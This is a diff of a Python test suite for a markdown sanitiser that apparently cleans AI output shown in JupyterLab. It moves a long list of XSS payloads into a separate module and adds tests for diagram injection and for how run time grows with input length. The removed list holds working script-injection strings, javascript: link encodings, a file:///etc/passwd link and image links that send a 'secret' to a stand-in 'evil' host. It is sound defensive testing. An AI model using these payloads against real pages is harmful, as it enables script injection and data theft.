@@ -4,19 +4,21 @@ from __future__ import annotations
 
 import html
 import re
+import time
 from itertools import pairwise
+from typing import TYPE_CHECKING
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
+from support.payloads import PAYLOADS
 
-from g4f_magic.display.markdown import (
-    close_open_fence,
-    finished_length,
-    neutralise,
-    split_open_block,
-)
+from g4f_magic.display.harmless import neutralise
+from g4f_magic.display.markdown import close_open_fence, finished_length, split_open_block
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
 
 JOINER = "\u2060"
 ON_SCREEN = MarkdownIt("commonmark", {"html": True}).enable("table")
@@ -136,7 +138,7 @@ def test_a_long_open_fence_is_split_into_fences() -> None:
     parts = split_open_block(text, 200)
     assert parts is not None
     assert parts.head.endswith("x = 1\n```\n\n")
-    assert len(parts.head) < 210
+    assert 200 <= parts.length < 210
     assert parts.rest == parts.opening + text[parts.length :]
     assert parts.opening == "```python title\n"
     assert (parts.head[: parts.length] + parts.rest.removeprefix(parts.opening)) == text
@@ -165,6 +167,27 @@ def test_splitting_goes_on_with_the_rest() -> None:
     assert len(rest) < 310
 
 
+def test_a_long_list_is_split_between_its_items() -> None:
+    """A list has no end until something else begins, and may be as long as the answer."""
+    text = "Look:\n\n" + "".join(f"{n}. item\n    - sub\n" for n in range(1, 100))
+    parts = split_open_block(text, 300)
+    assert parts is not None
+    assert 300 <= parts.length < 330
+    assert (parts.head[: parts.length] + parts.rest) == text
+    pieces = ON_SCREEN.render(parts.head) + ON_SCREEN.render(parts.rest)
+    assert pieces.count("<li>") == ON_SCREEN.render(text).count("<li>")
+    assert f'<ol start="{parts.rest.partition(".")[0]}">' in pieces
+
+
+def test_a_split_leaves_what_stands_before_the_block() -> None:
+    """The text above a program belongs to its first piece."""
+    parts = split_open_block("a\n  ```\n" + "  x = 1\n" * 100, 200)
+    assert parts is not None
+    assert parts.head.startswith("a\n  ```\n  x = 1\n")
+    assert parts.opening == "  ```\n"
+    assert ON_SCREEN.render(parts.rest).count("<pre>") == 1
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -172,9 +195,7 @@ def test_splitting_goes_on_with_the_rest() -> None:
         "a paragraph\n" * 100,
         "```\n" + "a" * 500,
         "```\n" + "a\n" * 200 + "```\n",
-        "  ```\n" + "a\n" * 200,
         "- ```\n" + "  a\n" * 200,
-        "a\n```\n" + "a\n" * 200,
         "| a |\n|---|\n| " + "b" * 300,
         "$$\n" + "a\n" * 200,
     ],
@@ -218,6 +239,8 @@ HARMLESS = (
     "Inline $a < b$, \\(c > d\\), $$\\frac{1}{2}$$ and $\\begin{matrix}a & b\\end{matrix}$.\n",
     "$$\\left[ x \\right] \\sum_{i < n} i \\text{ if } a<0$$\n",
     "Links: <https://example.org/?a=b&c=d>, <mailto:a@example.org>, https://example.org/a.\n",
+    "Write to <a.b+c@mail.example.org> or a@example.org.\n",
+    "```mermaid\ngraph TD\nA[x<br/>y] -->|a < b & c| B\nstyle A fill:#f9f;\n```\n",
     '[a](https://example.org "title") [b](./c.md) [d](#e) [f][g] [h] [i]() [j](/k:l)\n',
     "[g]: https://example.org/x 'title'\n[h]: ../relative.md\n",
     "R&D, AT&T, a&b, &nbsp; &copy; &rarr; &amp; &lt;b&gt;\n",
@@ -266,139 +289,7 @@ def test_controls_are_shown_as_what_they_are() -> None:
     assert neutralise("a\x00b\x1bc\u202ed\u2066e\x9b\r\nf\rg\th") == "a�b�c�d�e�\nf\ng\th"
 
 
-# Each is rendered as it is and between paragraphs, in a list and in a quotation.
-PAYLOADS = (
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "<img\nsrc=x\nonerror=alert(1)>",
-    '<img """><script>alert(1)</script>">',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<style>@import 'http://evil'</style>",
-    "<link rel=stylesheet href=http://evil>",
-    "<meta http-equiv=refresh content='0;url=http://evil'>",
-    "<base href=http://evil>",
-    "<form action=http://evil><button>x</button></form>",
-    "<!-- --><script>alert(1)</script><!-- -->",
-    "<!--><img src=x onerror=alert(1)>",
-    "<?php ?><img src=x onerror=alert(1)>",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "</p><script>alert(1)</script>",
-    "`<img src=x onerror=alert(1)>",
-    "``<img src=x onerror=alert(1)>`",
-    "`` ` `` ` <img src=x onerror=alert(1)> `` `",
-    "\\`<img src=x onerror=alert(1)>\\`",
-    "    x\n<img src=x onerror=alert(1)>",
-    "- a\n\n      <b>\n<img src=x onerror=alert(1)>",
-    "| ` | <img src=x onerror=alert(1)> | ` |\n|---|---|---|\n| ` | ![](http://evil) | ` |",
-    "!![x](http://evil)",
-    "text\n```![x](http://evil)",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x]( javascript:alert(1))",
-    "[x](\njavascript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](java\\script:alert(1))",
-    "[x](javascript\\:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](javascript&#58;alert(1))",
-    "[x](javascript&#x3A;alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](&#x6A&#x61vascript:alert(1))",
-    "[x](java&Tab;script:alert(1))",
-    "[x](java&NewLine;script:alert(1))",
-    "[x](%6Aavascript:alert(1))",
-    "[x](javascript%3Aalert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](\x0cjavascript:alert(1))",
-    "[x](\u00a0javascript:alert(1))",
-    "[x](\ufeffjavascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:http://a/b)",
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "[y]:\n  javascript:alert(1)\n\n[y]",
-    "[y]: <javascript:alert(1)>\n\n[y]",
-    "[y]: javascript&colon;alert(1) 'x'\n\n[y]",
-    "[y\nz]: javascript:alert(1)\n\n[y z]",
-    "> [y]: javascript:alert(1)\n\n[y]",
-    "<javascript:alert(1)>",
-    "<vbscript:x>",
-    "<data:text/html,x>",
-    "<JAVASCRIPT&colon;alert(1)>",
-    "<https://a\"onmouseover='alert(1)'>",
-    "![x](http://evil/?q=secret)",
-    "![x](//evil/x.png)",
-    "![x](/files/secret.png)",
-    "![x](<http://evil/x y.png>)",
-    "![x](http://evil 'title')",
-    "![`](http://evil/`)",
-    "![x\n](http://evil)",
-    "![[y]](http://evil)",
-    "![x][r]\n\n[r]: http://evil",
-    "![r][]\n\n[r]: http://evil",
-    "![r]\n\n[r]: http://evil",
-    "[![x](http://evil/a)](http://evil/b)",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    '![x"onerror="alert(1)](http://evil)',
-    "`a` `![x](http://evil)",
-    "[b`c] `d` ![x](http://evil) `\n\n[b`c]: /x",
-    # marked and markdown-it take definitions, quotations and lists for longer than they look.
-    "[a\n\n```\nb]: x\n<img src=x onerror=alert(1)>\n\n```",
-    '[a]: x "\n\n```\n"\n<img src=x onerror=alert(1)>\n\n```',
-    '[a]: x\n"\n\n```\n"\n<img src=x onerror=alert(1)>\n\n```',
-    "- a\n  ```\n<img src=x onerror=alert(1)>\n  ```",
-    "1. a\n  ```\n```\n<img src=x onerror=alert(1)>",
-    "x\n2. a\n   ```\n```\n<img src=x onerror=alert(1)>",
-    "- a\n# b\n  ```\n```\n<img src=x onerror=alert(1)>",
-    "> ```\n<img src=x onerror=alert(1)>\n> ```",
-    "> a\n  ```\n```\n<img src=x onerror=alert(1)>",
-    "```\na\n```~~~\n<img src=x onerror=alert(1)>\n```",
-    "```\na\n```~~`\n<img src=x onerror=alert(1)>\n```",
-    "```\na\n```\t\n<img src=x onerror=alert(1)>\n```",
-    "``` `\n<img src=x onerror=alert(1)>\n```",
-    "    ```\n<img src=x onerror=alert(1)>\n    ```",
-    # JupyterLab takes formulas out first, so they can swallow fences and break attributes.
-    "\\begin{x}\n```\n\\end{x}\n<img src=x onerror=alert(1)>\n```",
-    "\\\\(\n```\n\\\\)\n<img src=x onerror=alert(1)>\n```",
-    "```\n\\begin{x}\n```\n\\end{x}\n```\n<img src=x onerror=alert(1)>\n```",
-    "```\n\\\\[\n```\n\\\\]\n```\n<img src=x onerror=alert(1)>\n```",
-    "$\n~~~\n$\n<img src=x onerror=alert(1)>\n~~~",
-    '[x](http://a/$"onmouseover="alert(1)"$)',
-    '[x](<http://a/$"onmouseover="alert(1)"$>)',
-    '[x](http://a (t$"onmouseover="alert(1)"$))',
-    '[x](http://a "t$"onmouseover="alert(1)"$")',
-    '[r]\n\n[r]: http://a/$"onmouseover="alert(1)"$',
-    '[r]\n\n[r]: http://a \'$"onmouseover="alert(1)"$\'',
-    'https://a.example/$" onmouseover=alert(1) x="$',
-    'www.example.org/$" onmouseover=alert(1) x="$',
-    'https://a.example/\\begin{x}" onmouseover=alert(1) x="\\end{x}',
-    '<https://a.example/$" onmouseover=alert(1) x="$>',
-    '![$" onerror=alert(1) x="$](data:image/png;base64,AA==)',
-    '```$" onmouseover=alert(1) x="$\nx\n```',
-    '```@@0@@\nx\n```\n\n$" onmouseover=alert(1) x="$',
-    'a\n``` \\begin{x}"`" onmouseover=alert(1) x="\\end{x}\nb\n```',
-    '[x](@\\@0@@) $" onmouseover=alert(1) x="$',
-    '[x](http://@\\@0@@) $" onmouseover=alert(1) x="$',
-)
-
+# Each payload is rendered as it is and between paragraphs, in a list and in a quotation.
 FORMS = ("{}", "a\n\n{}\n\nb", "- {}", "> {}", "a {} b", "```\n```\n{}")
 
 _BAD_LINK = re.compile(r"(?:javascript|vbscript|file|blob|data(?!:image/(?:png|jpe?g|gif|webp);))")
@@ -468,11 +359,81 @@ def test_any_text_is_harmless_and_stays_as_it_is_the_second_time(text: str) -> N
     assert neutralise(safe) == safe
 
 
-@pytest.mark.parametrize("command", ["href", "url", "htmlData", "class", "style", "require"])
+@pytest.mark.parametrize(
+    "command", ["href", "url", "htmlData", "class", "style", "require", "mmlToken", "bbox"]
+)
 def test_commands_that_leave_the_formula_are_broken(command: str) -> None:
     """A formula can hold a link or a style, too."""
     assert neutralise(f"$\\{command}{{x}}$") == f"$\\{JOINER}{command}{{x}}$"
     assert neutralise(f"$\\{command}x$") == f"$\\{command}x$"
+
+
+def test_a_box_with_a_colour_is_left_alone() -> None:
+    """The same command can hold a style sheet's worth of properties."""
+    assert neutralise("$\\bbox[yellow, 5px]{x}$") == "$\\bbox[yellow, 5px]{x}$"
+    assert neutralise("$\\bbox[a:url(b)]{x}$") == f"$\\{JOINER}bbox[a:url(b)]{{x}}$"
+
+
+def test_the_name_of_a_language_stays_in_its_attribute() -> None:
+    """JupyterLab 4.6 writes it there as it is, with the quotes."""
+    assert neutralise('```py" onclick="a\n"b"\n```') == "```py' onclick='a\n\"b\"\n```"
+    assert neutralise('- ```py" onclick="a\n  b\n  ```') == "- ```py' onclick='a\n  b\n  ```"
+
+
+def test_a_definition_does_not_take_the_line_of_a_fence_for_its_address() -> None:
+    """What follows would be text, and the code that is left alone would run."""
+    assert neutralise("[x]: \n```\n<b>\n```") == "[x]: \n\n```\n<b>\n```"
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        ('A["<video poster=b>"]', f'A["<{JOINER}video poster=b>"]'),
+        ("A[<<p style=b>>]", f"A[<<{JOINER}p style=b>>]"),
+        ("<<interface>> A", "<<interface>> A"),
+        ("A[http://b]", f"A[http{JOINER}:/{JOINER}/b]"),
+        ("A@{ img: b }", f"A@{{ im{JOINER}g: b }}"),
+        ("style A fill:url(b)", f"style A fill:url{JOINER}(b)"),
+        ("A[b\\nc\\x2f]", f"A[b\\nc\\{JOINER}x2f]"),
+    ],
+)
+def test_what_loads_something_in_a_diagram_is_broken(line: str, shown: str) -> None:
+    """JupyterLab draws diagrams in the page, and their labels are HTML."""
+    diagram = "```mermaid\ngraph TD\n\n{}\n```\n\n```text\n<b> http://a\n```"
+    assert neutralise(diagram.format(line)) == diagram.format(shown)
+    assert neutralise(diagram.format(shown)) == diagram.format(shown)
+
+
+def test_a_diagram_in_a_list_is_shown_as_its_source() -> None:
+    """Where its code ends depends on the parser, so nothing in it could be broken for sure."""
+    assert neutralise("- ```mermaid\n  a\n  ```") == f"- ```m{JOINER}ermaid\n  a\n  ```"
+
+
+def seconds(function: Callable[[str], object], text: str) -> float:
+    """CPU time of the quickest of three calls."""
+    times = []
+    for _ in range(3):
+        start = time.process_time()
+        function(text)
+        times.append(time.process_time() - start)
+    return min(times)
+
+
+UNITS = (
+    *("a", "<", "`", "](", "![", "$", "$ ", "> ", "(a", '"$http://', "\\begin{x}"),
+    *("```\n", "~~~x\n", "]:\n", "[a\n", "a\n=\n", "|a|\n", "- a\n", "  - a\n", "\n"),
+    *("[^a]: b\n\n", "```mermaid\n"),
+)
+
+
+@pytest.mark.parametrize("unit", UNITS)
+@pytest.mark.parametrize("function", [neutralise, finished_length, close_open_fence])
+def test_work_grows_with_the_text_and_not_with_its_square(
+    function: Callable[[str], object], unit: str
+) -> None:
+    """A cell that computes for a minute cannot be stopped before it is done."""
+    small, large = (unit * (size // len(unit)) for size in (8_000, 64_000))
+    assert seconds(function, large) < 30 * seconds(function, small) + 0.03  # 64 times if squared
 
 
 def test_entities_do_not_spell_commands() -> None:
